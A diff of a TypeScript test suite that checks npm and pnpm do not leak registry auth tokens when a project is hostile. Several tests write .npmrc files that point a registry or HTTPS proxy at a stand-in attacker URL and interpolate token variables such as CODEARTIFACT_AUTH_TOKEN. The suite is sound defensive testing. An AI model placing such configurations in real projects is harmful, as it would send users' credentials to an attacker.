@@ -84,7 +84,7 @@ function withTool(tool: string): Record<string, string> {
 
 const newNode = join(tools, `npm-12/node_modules/node-linux-${process.arch}/bin`);
 
-const named = () => ({ ca: evil.ca, proxy: evil.url, endpoint });
+const spelling = () => ({ ca: evil.ca, proxy: evil.url, endpoint });
 
 async function installs(tool: string, command: string[]): Promise<void> {
   const finished = await run(tool, command, {});
@@ -153,6 +153,16 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
     120_000,
   );
 
+  test("an honest archive on the command line is installed", async () => {
+    const files = { "package/package.json": JSON.stringify({ name: "b", version: "1.0.0" }) };
+    const archive = await new Bun.Archive(files, { compress: "gzip" }).bytes();
+    for (const words of [["./b.tgz"], ["--prefix", "not-there-yet", "./b.tgz"]]) {
+      const finished = await run("npm-11", ["npm", "install", ...words], { "b.tgz": archive });
+      expect(finished.stderr).not.toContain("vouch:");
+      expect(finished.exitCode).toBe(0);
+    }
+  }, 120_000);
+
   test.each([
     ["a package that it brings along", "package/node_modules/a/package.json"],
     ["its lock file", "package/npm-shrinkwrap.json"],
@@ -181,7 +191,7 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
     "an .npmrc with %s gives nobody the token",
     async (_, npmrc) => {
       const { stdout, stderr } = await run("npm-11", ["npm", "install", "--ignore-scripts"], {
-        ".npmrc": npmrc(named()),
+        ".npmrc": npmrc(spelling()),
       });
       expect(stdout + stderr).not.toBe("");
     },
@@ -223,13 +233,30 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
         "an .npmrc with %s gives nobody the token",
         async (_, npmrc) => {
           const { stdout, stderr } = await run(tool, ["pnpm", "install", "--ignore-scripts"], {
-            ".npmrc": npmrc(named()),
+            ".npmrc": npmrc(spelling()),
           });
           expect(stdout + stderr).not.toBe("");
         },
         120_000,
       );
     }
+
+    test.each([
+      ["pnpm dlx", ["pnpm", "dlx", "@x/nothing"]],
+      ["pnpm view", ["pnpm", "view", "@x/nothing"]],
+    ])(
+      "%s in a hostile project gives nobody the token",
+      async (_, command) => {
+        const own = `@x:registry=${evil.url}/npm/\n`;
+        const known = [variable, `p${variable}`, "CODEARTIFACT_AUTH_TOKEN"];
+        const texts = known.map((name) => `${own}//${bare(evil.url)}/npm/:_authToken=\${${name}}\n`);
+        for (const text of [...texts, `${own}https-proxy=${evil.url}\nstrict-ssl=false\n`]) {
+          const { exitCode } = await run(tool, command, { ".npmrc": text });
+          expect(exitCode).not.toBe(0);
+        }
+      },
+      120_000,
+    );
 
     test("gives nobody the token: pnpm's own variable", async () => {
       const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
